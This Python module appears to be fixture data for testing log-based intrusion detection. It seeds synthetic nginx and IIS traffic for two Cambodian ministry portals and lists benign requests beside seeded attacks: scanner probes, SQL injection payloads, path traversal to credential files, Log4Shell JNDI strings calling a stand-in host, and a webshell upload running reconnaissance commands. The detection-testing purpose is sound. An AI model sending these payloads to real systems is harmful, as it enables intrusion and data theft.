"""What visitors of the ministries' web portals send: browsers, pages, and the attackers' requests.

Two portals are sampled: the exam results portal of the Ministry of Education, Youth and
Sport (``results.moeys.gov.kh``, nginx) and the e-Services portal of the Ministry of Posts
and Telecommunications (``eservices.mptc.gov.kh``, IIS on ``mptc-dmz-web-02``, the host
where the endpoint sample's web shell runs).
"""

from __future__ import annotations

from typing import Final

__all__ = [
    "BROWSERS",
    "BRUTE_FORCER",
    "IIS_ATTACKS",
    "IIS_PAGES",
    "NGINX_ATTACKS",
    "NGINX_NEAR_MISSES",
    "NGINX_PAGES",
    "PROVINCES",
    "REFERRERS",
    "WEB_ATTACKER",
    "WebRequest",
]

WEB_ATTACKER: Final = "203.0.113.47"
"""The intruder of the endpoint sample: its C2 server also probes and attacks the portals."""
BRUTE_FORCER: Final = "192.0.2.140"

BROWSERS: Final = (
    "Mozilla/5.0 (Linux; Android 14; SM-A546E) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/130.0.6723.107 Mobile Safari/537.36",
    "Mozilla/5.0 (Linux; Android 13; CPH2591) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/131.0.6778.39 Mobile Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like "
    "Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/131.0.0.0 Safari/537.36 Edg/131.0.2903.70",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:132.0) Gecko/20100101 Firefox/132.0",
    "Mozilla/5.0 (Linux; Android 12; Redmi Note 11) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/129.0.6668.100 Mobile Safari/537.36 [FB_IAB/FB4A;FBAV/488.0.0.62.111;]",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
)
"""User agents of benign visitors: phones first, as in Cambodia's traffic, then desktops."""

REFERRERS: Final = (
    "-",
    "-",
    "https://www.google.com/",
    "https://m.facebook.com/",
    "https://www.moeys.gov.kh/",
    "https://results.moeys.gov.kh/km/",
)
PROVINCES: Final = ("phnom-penh", "kandal", "siem-reap", "battambang", "kampong-cham", "takeo")

# (weight, method, target template, status); {n} a number, {p} a province, {h} a hash.
NGINX_PAGES: Final = (
    (8, "GET", "/km/", 200),
    (3, "GET", "/en/", 200),
    (10, "GET", "/static/css/main.{h}.css", 200),
    (10, "GET", "/static/js/main.{h}.js", 200),
    (6, "GET", "/images/logo-moeys.png", 200),
    (3, "GET", "/favicon.ico", 200),
    (14, "GET", "/results?exam=bacii-2026&candidate={n}", 200),
    (6, "GET", "/results/search?name=sok+{n}&province={p}", 200),
    (4, "GET", "/news/grade-12-exam-results-2026", 200),
    (2, "GET", "/robots.txt", 200),
    (1, "GET", "/apple-touch-icon.png", 404),
    (2, "POST", "/login", 302),
    (0.3, "POST", "/login", 401),
    (2, "GET", "/dashboard", 200),
)
IIS_PAGES: Final = (
    (8, "GET", "/eServices/", "-", 200),
    (10, "GET", "/eServices/Content/site.css", "-", 200),
    (10, "GET", "/eServices/Scripts/jquery-3.7.1.min.js", "-", 200),
    (6, "GET", "/eServices/Content/images/mptc-logo.png", "-", 200),
    (12, "GET", "/eServices/Licence/Status", "licenceNo=PT-2026-{n}", 200),
    (10, "GET", "/eServices/Postal/Track", "trackingNo=EE{n}KH", 200),
    (2, "GET", "/eServices/Postal/Track", "trackingNo=EE{n}KH", 404),
    (3, "POST", "/eServices/Account/Login", "-", 302),
    (0.3, "POST", "/eServices/Account/Login", "-", 200),
    (4, "GET", "/eServices/Licence/Apply", "type=isp", 200),
    (2, "POST", "/eServices/Licence/Apply", "-", 302),
)

_SQLMAP: Final = "sqlmap/1.8.11#stable (https://sqlmap.org)"
_NIKTO: Final = "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:{test})"
_CURL: Final = "curl/8.5.0"
_BROWSER: Final = BROWSERS[3]
_JNDI: Final = "${jndi:ldap://203.0.113.47:1389/Exploit}"

WebRequest = tuple[str | None, str, str, str, int, str]
"""(attack kind, client, method, target, status, user agent) of one seeded request.

The kind is None for a near miss: a benign request placed beside the attacks."""

_NIKTO_PROBES: Final = (
    ("/admin/", "000016"), ("/phpmyadmin/", "000127"), ("/.git/config", "000734"),
    ("/server-status", "001028"), ("/backup.zip", "001311"), ("/config.php.bak", "001487"),
    ("/.env", "002044"), ("/test.php", "002391"),
)  # fmt: skip
# Seeded nginx attacks, in time order: (seconds after the sample's start, request).
NGINX_ATTACKS: Final[tuple[tuple[float, WebRequest], ...]] = (
    *((300 + 0.4 * i, ("nikto_scan", WEB_ATTACKER, "GET", path, 404, _NIKTO.format(test=test)))
      for i, (path, test) in enumerate(_NIKTO_PROBES)),
    (304.0, ("nikto_trace", WEB_ATTACKER, "TRACE", "/", 405, _NIKTO.format(test="003092"))),
    (900.0, ("sql_injection", WEB_ATTACKER, "GET",
             "/results/search?name=sok%27%20OR%20%271%27%3D%271&province=kandal", 200, _BROWSER)),
    (905.5, ("sqlmap_injection", WEB_ATTACKER, "GET",
             "/results?exam=bacii-2026&candidate=120345%27%20AND%203842%3D3842%20AND%20%27xYzQ%27"
             "%3D%27xYzQ", 200, _SQLMAP)),
    (906.0, ("sqlmap_injection", WEB_ATTACKER, "GET",
             "/results?exam=bacii-2026&candidate=120345%27%20AND%20SLEEP%285%29%20AND%20%27Gbxd%27"
             "%3D%27Gbxd", 200, _SQLMAP)),
    (911.2, ("sqlmap_injection", WEB_ATTACKER, "GET",
             "/results?exam=bacii-2026&candidate=120345%20UNION%20ALL%20SELECT%20NULL%2CNULL%2C"
             "CONCAT%280x7176627a71%2C0x4e6b%2C0x716a6b7871%29--%20-", 500, _SQLMAP)),
    (912.0, ("sqlmap_injection", WEB_ATTACKER, "GET",
             "/results?exam=bacii-2026&candidate=120345%27%20UNION%20SELECT%20table_name%2CNULL"
             "%20FROM%20information_schema.tables--%20-", 200, _SQLMAP)),
    (1500.0, ("path_traversal", WEB_ATTACKER, "GET", "/download?file=../../../../etc/passwd",
              400, _CURL)),
    (1502.0, ("path_traversal", WEB_ATTACKER, "GET",
              "/download?file=..%2F..%2F..%2F..%2Fetc%2Fpasswd", 400, _CURL)),
    *((2400 + 2.0 * i, ("login_brute_force", BRUTE_FORCER, "POST", "/login", 401,
                        "python-requests/2.32.3")) for i in range(25)),
    (2450.5, ("login_brute_force_success", BRUTE_FORCER, "POST", "/login", 302,
              "python-requests/2.32.3")),
    # Added after the first bundled release: kept last, so earlier lines stay as they were.
    (2700.0, ("sql_injection_numeric", WEB_ATTACKER, "GET", "/news?id=5%20OR%201=1--", 200,
              _BROWSER)),
    (2702.5, ("sql_injection_numeric", WEB_ATTACKER, "GET",
              "/results?exam=bacii-2026&candidate=120345+AND+1=1", 200, _BROWSER)),
    (3000.0, ("log4shell", WEB_ATTACKER, "GET", "/", 200, _JNDI)),
    (3004.0, ("log4shell", WEB_ATTACKER, "GET",
              "/results/search?name=%24%7B%24%7Blower%3Aj%7Dndi%3Aldap%3A%2F%2F203.0.113.47"
              "%3A1389%2Fa%7D&province=kandal", 200, _BROWSER)),
    (3008.5, ("log4shell", WEB_ATTACKER, "GET", "/login", 200,
              "${${::-j}${::-n}di:ldap://203.0.113.47:1389/b}")),
)  # fmt: skip
# Benign requests that resemble the attacks above (a number alone, OR in a search, a shell
# variable in a help page); no rule may fire on them. Added with the attacks.
NGINX_NEAR_MISSES: Final[tuple[tuple[float, WebRequest], ...]] = (
    (2705.0, (None, "36.37.140.12", "GET", "/news?id=5", 200, BROWSERS[0])),
    (2706.0, (None, "36.37.140.12", "GET", "/results/search?name=sok+or+sao&province=kandal",
              200, BROWSERS[0])),
    (3010.0, (None, "36.37.140.12", "GET", "/help/shell-variables?example=%24%7BHOME%7D", 200,
              BROWSERS[5])),
)  # fmt: skip

_SHELL: Final = "/eServices/uploads/cmdasp.aspx"
# Seeded IIS attacks: (seconds after start, (kind, client, method, stem, query, status, agent)).
IIS_ATTACKS: Final[tuple[tuple[float, tuple[str, str, str, str, str, int, str]], ...]] = (
    (70.0, ("webshell_upload", WEB_ATTACKER, "PUT", _SHELL, "-", 201, _CURL)),
    (120.0, ("webshell_access", WEB_ATTACKER, "GET", _SHELL, "cmd=whoami+/all", 200, _CURL)),
    (124.0, ("webshell_access", WEB_ATTACKER, "GET", _SHELL, "cmd=ipconfig+/all", 200, _CURL)),
    (131.0, ("webshell_access", WEB_ATTACKER, "GET", _SHELL, "cmd=net+user", 200, _CURL)),
    (2100.0, ("path_traversal", WEB_ATTACKER, "GET", "/eServices/Download/File",
              "name=..%5c..%5c..%5cwindows%5cwin.ini", 500, _BROWSER)),
    (2200.0, ("log4shell", WEB_ATTACKER, "GET", "/eServices/", "-", 200, _JNDI)),
)  # fmt: skip
